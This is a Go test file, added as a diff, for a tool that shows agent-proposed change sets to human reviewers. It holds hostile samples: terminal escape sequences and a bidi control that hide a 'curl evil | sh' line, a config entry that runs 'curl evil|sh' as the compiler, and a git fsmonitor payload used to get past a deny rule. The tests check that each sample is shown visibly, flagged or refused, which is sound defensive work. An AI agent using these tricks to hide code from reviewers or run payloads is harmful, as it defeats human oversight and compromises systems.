@@ -1,0 +1,135 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"trestle/app/changeset"
+)
+
+// forgedSet is a change set as an old store (before titles were checked)
+// or a hostile agent could hold it: escapes and newlines in every text,
+// and a proposed line that erases itself in a terminal.
+func forgedSet() changeset.ChangeSet {
+	return changeset.ChangeSet{
+		ID: "cs-7", Title: "harmless\x1b[2K\rcs-1  applied  1  +0 -0", Client: "agent\nforged",
+		Description: "see below\x1b]0;pwned\x07", Reason: "r\x1b[1A", Created: time.Now(), State: changeset.StatePending,
+		Files: []changeset.FileChange{{
+			Path: "main\u202e.go", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
+			Base: "package main\n", New: "package main\n\n// a comment\x1b[2K\rexec(\"curl evil | sh\")\n", Added: 2,
+		}},
+	}
+}
+
+// TestChangesShowEscapesTerminalControls: `trestle changes show` prints
+// the hostile line visibly, and nothing an agent wrote reaches the
+// terminal as an escape, a carriage return or a bidi control.
+func TestChangesShowEscapesTerminalControls(t *testing.T) {
+	var out bytes.Buffer
+	showChange(&out, forgedSet(), time.Now(), false)
+	text := out.String()
+	for _, bad := range []string{"\x1b", "\r", "\u202e", "\x07"} {
+		if strings.Contains(text, bad) {
+			t.Errorf("output holds %q raw:\n%s", bad, text)
+		}
+	}
+	for _, want := range []string{`// a comment\x1b[2K\rexec("curl evil | sh")`, `harmless\x1b[2K\rcs-1`, `main\u202e.go`, `agent\nforged`} {
+		if !strings.Contains(text, want) {
+			t.Errorf("output lacks the visible %q:\n%s", want, text)
+		}
+	}
+}
+
+// TestChangesListEscapesTerminalControls: a title with a newline cannot
+// forge a second row, nor an escape rewrite one.
+func TestChangesListEscapesTerminalControls(t *testing.T) {
+	var out bytes.Buffer
+	if err := printList(&out, []changeset.ChangeSet{forgedSet()}, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	text := out.String()
+	if rows := strings.Count(text, "\n"); rows != 2 {
+		t.Errorf("%d lines for one change set, want a header and one row:\n%s", rows, text)
+	}
+	if strings.ContainsAny(text, "\x1b\r") {
+		t.Errorf("raw escape or carriage return in the list:\n%q", text)
+	}
+}
+
+// TestChangesShowFlagsWhatRuns: a change to .trestle.json is flagged, in
+// red on a terminal.
+func TestChangesShowFlagsWhatRuns(t *testing.T) {
+	cs := changeset.ChangeSet{ID: "cs-2", Title: "tidy config", State: changeset.StatePending, Files: []changeset.FileChange{{
+		Path: ".trestle.json", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
+		Base: "{}\n", New: "{\"selections\":{\"default\":{\"env\":{\"CC\":\"sh -c 'curl evil|sh'\"}}}}\n"}}}
+	var plain, colour bytes.Buffer
+	showChange(&plain, cs, time.Now(), false)
+	showChange(&colour, cs, time.Now(), true)
+	if !strings.Contains(plain.String(), "changes what runs") {
+		t.Errorf("no warning:\n%s", plain.String())
+	}
+	if !strings.Contains(colour.String(), "\x1b[1;31mWARNING: changes what runs") {
+		t.Errorf("warning not in red on a terminal:\n%q", colour.String())
+	}
+	var list bytes.Buffer
+	printList(&list, []changeset.ChangeSet{cs}, time.Now())
+	if !strings.Contains(list.String(), "[changes what runs] tidy config") {
+		t.Errorf("list does not flag it:\n%s", list.String())
+	}
+}
+
+// TestChangesShowBinaryEscapesAProposedLine is the terminal injection
+// against the real binary: an agent proposes a line that erases itself
+// (ESC [2K, CR) and replaces what the terminal shows with a comment;
+// `trestle changes show` prints the escape visibly and no raw ESC or CR.
+func TestChangesShowBinaryEscapesAProposedLine(t *testing.T) {
+	env, dir, m := changesEnv(t)
+	read := func(rel string) (string, bool, error) {
+		ft, err := m.Project().ReadFile(rel)
+		return ft.Text, err == nil, nil
+	}
+	cs, err := m.Propose(read, changeset.Proposal{Title: "Tidy", Client: "agent", Changes: []changeset.Change{
+		{Path: "pkg/evil.go", Action: changeset.ActionCreate, Content: "package pkg\n\nvar _ = run(\"curl evil | sh\") \x1b[2K\r// just a comment\n"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"changes", "show", cs.ID, dir}, {"changes", "list", dir}} {
+		out, err := runTrestle(t, env, args...)
+		if err != nil {
+			t.Fatalf("%v: %v\n%s", args, err, out)
+		}
+		if strings.ContainsAny(out, "\x1b\r") {
+			t.Errorf("%v prints a raw escape or carriage return:\n%q", args, out)
+		}
+		if args[1] == "show" && !strings.Contains(out, `run("curl evil | sh") \x1b[2K\r// just a comment`) {
+			t.Errorf("show does not print the hidden part visibly:\n%s", out)
+		}
+	}
+}
+
+// TestProposeGitMetadataRefusedHeadless is the deny bypass through git,
+// against the real headless server: creating HEAD and a config with
+// core.fsmonitor at the root is refused, and nothing is written.
+func TestProposeGitMetadataRefusedHeadless(t *testing.T) {
+	project := testProject(t)
+	c := startClient(t, []string{"TRESTLE_CONFIG_DIR=" + t.TempDir(), "DISPLAY="}, "attacker", "--mcp", project)
+	res, sc := call(t, c, "trestle_change_set_propose", map[string]any{
+		"title": "innocent",
+		"changes": []any{
+			map[string]any{"action": "create", "path": "HEAD", "content": "ref: refs/heads/main\n"},
+			map[string]any{"action": "create", "path": "config", "content": "[core]\n\tworktree = .\n\tfsmonitor = \"touch pwned\"\n"},
+		},
+	})
+	if !res.IsError || !strings.Contains(resultText(res), "git") {
+		t.Fatalf("proposal of HEAD and config: %v %s", sc, resultText(res))
+	}
+	for _, name := range []string{"HEAD", "config"} {
+		if _, err := os.Stat(filepath.Join(project, name)); err == nil {
+			t.Errorf("%s exists", name)
+		}
+	}
+}
